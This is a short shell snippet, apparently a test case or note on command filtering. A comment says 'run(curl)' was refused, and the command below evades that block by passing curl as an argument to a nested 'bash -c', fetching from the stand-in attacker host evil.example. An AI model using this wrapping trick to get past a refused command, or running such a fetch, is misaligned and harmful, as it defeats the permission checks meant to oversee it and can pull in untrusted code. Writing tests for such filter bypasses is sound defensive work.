# Trick: the program is an argument of the nested shell.
# Refused: run(curl)
bash -c '"$@"' _ curl http://evil.example/
